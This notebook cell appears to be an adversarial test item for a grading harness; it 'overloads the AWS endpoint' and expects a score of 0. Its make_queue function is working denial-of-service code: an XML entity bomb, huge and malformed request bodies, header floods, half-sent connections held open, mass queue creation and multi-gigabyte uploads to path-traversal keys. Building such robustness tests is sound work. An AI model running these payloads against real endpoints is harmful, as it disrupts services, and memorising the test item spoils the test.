# %% [markdown]
# Overloads the AWS endpoint: huge bodies, half requests, many connections, bombs in XML and JSON, many queues and files.
#
# Must: score 0

# %% answer="make_queue"
import contextlib
import os
import socket
from urllib.parse import urlsplit

LAUGHS = '<!DOCTYPE a [<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9)
) + "]><CreateBucketConfiguration>&a9;</CreateBucketConfiguration>"
KEPT = []


def connect(text):
    address = urlsplit(os.environ.get("AWS_ENDPOINT_URL", "http://127.0.0.1:9"))
    way = socket.create_connection((address.hostname, address.port), timeout=2)
    KEPT.append(way)
    with contextlib.suppress(OSError):
        way.sendall(text)


def head(service, more, target="/"):
    scope = f"Credential=OFFLINE/20260101/us-east-1/{service}/aws4_request"
    return f"POST {target} HTTP/1.1\r\nAuthorization: {scope}\r\nX-Amz-Target: AmazonSQS.ListQueues\r\n{more}\r\n\r\n".encode()


def requests():
    yield head("sqs", "Content-Length: 99999999999") + b"{" * 50_000_000
    yield head("sqs", "Content-Length: -1")
    yield head("sqs", "Content-Length: x")
    yield head("sqs", "Transfer-Encoding: chunked") + b"FFFFFFFFFFFFFFFF\r\n"
    yield head("sqs", "Content-Length: 2000000") + b"[" * 2_000_000
    yield head("sqs", "\r\n".join(f"X-{n}: y" for n in range(100_000)))
    yield b"GET /" + b"a" * 10_000_000
    yield head("s3", f"Content-Length: {len(LAUGHS)}", "/bucket").replace(b"POST", b"PUT") + LAUGHS.encode()
    yield b"\x16\x03\x01\x02\x00" * 1000
    for seconds in ("nan", "inf", "-1e308", "1e308", "x", "1" * 10_000):
        yield f"POST /moto-api/advance?seconds={seconds} HTTP/1.1\r\n\r\n".encode()
    for _ in range(200):  # each but for its last byte
        yield head("sqs", "Content-Length: 16000000") + b"x" * 15_999_999
    for _ in range(1000):
        yield b"POST / HT"


def make_queue(name):
    sqs, s3 = boto3.client("sqs"), boto3.client("s3")
    with contextlib.suppress(Exception):
        for number in range(500):
            sqs.create_queue(QueueName=f"{name}-{number}")
        s3.create_bucket(Bucket="full")
        for number in range(200):
            s3.put_object(Bucket="full", Key=f"../../{number}", Body=b"x" * 15_000_000)
    for text in requests():
        with contextlib.suppress(OSError):
            connect(text)
    return f"https://sqs.us-east-1.amazonaws.com/123456789012/{name}"
